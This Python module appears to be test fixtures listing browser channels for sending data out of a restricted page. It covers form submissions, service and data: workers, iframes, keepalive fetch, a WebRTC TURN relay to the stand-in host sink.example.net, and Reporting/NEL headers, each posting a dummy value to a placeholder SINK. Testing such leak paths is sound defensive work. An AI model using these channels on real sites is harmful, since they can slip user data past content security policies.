"""The longer scripts and headers of the write channels. Names in capitals are filled in by the channel. Pure text."""

from __future__ import annotations

FORM_IN_WINDOW = """
const w = window.open('about:blank');
w.document.write("<form method=post action='SINK'><input name=a value=1></form>");
w.document.forms[0].submit();
"""

FORM_IN_SHADOW = """
const place = document.createElement('div');
document.body.append(place);
const root = place.attachShadow({mode: 'closed'});
root.innerHTML = "<form method=post action='SINK'><input name=a value=1></form>";
root.firstChild.submit();
"""

FORM_BY_BUTTON = """<form action='/nowhere'><input name=a value=1><button formmethod=post formaction='SINK'>x</button></form>
<script>document.forms[0].requestSubmit(document.querySelector('button'))</script>"""

FORM_INTO_FRAME = """<iframe name=there></iframe><form method=post action='FOREIGN' target=there enctype=multipart/form-data><input name=a value=1></form>
<a href="javascript:document.forms[0].submit()">x</a><script>document.querySelector('a').click()</script>"""

SERVICE_WORKER = """
addEventListener('install', (event) => event.waitUntil(fetch('SINK', {method: 'POST', body: 'a=1'})));
"""

WORKER_IN_WORKER = {"outer.js": "new Worker('HERE/inner.js')"}

DATA_WORKER = """
new Worker('data:text/javascript,' + encodeURIComponent("fetch('SINK', {method: 'POST', mode: 'no-cors', body: 'a=1'})"));
"""

DATA_FRAME = """<iframe src="data:text/html,<script>fetch('SINK', {method: 'POST', mode: 'no-cors', body: 'a=1'})</script>"></iframe>"""

BLANK_FRAME = """
const frame = document.createElement('iframe');
document.body.append(frame);
frame.contentWindow.fetch('SINK', {method: 'POST', body: 'a=1'});
"""

REMOVED_FRAME = """
const frame = document.createElement('iframe');
document.body.append(frame);
ACT;
frame.remove();
"""

KEPT_ALIVE = "frame.contentWindow.fetch('SINK', {method: 'POST', keepalive: true, body: 'a=1'})"

RELAY = """
const turn = ['turn:sink.example.net:443?transport=udp', 'turn:sink.example.net:443?transport=tcp', 'turns:sink.example.net:443?transport=tcp'];
const peer = new RTCPeerConnection({iceServers: [{urls: ['stun:sink.example.net:443']}, {urls: turn, username: 'a', credential: 'b'}]});
peer.createDataChannel('a');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""

REPORT_TO_ENDPOINT = (("Reporting-Endpoints", 'main="SINK"'), ("Content-Security-Policy", "img-src 'none'; report-to main"))

NETWORK_ERROR_LOG = (
    ("Report-To", '{"group": "errors", "max_age": 3600, "endpoints": [{"url": "SINK"}]}'),
    ("NEL", '{"report_to": "errors", "max_age": 3600, "success_fraction": 1.0}'),
)
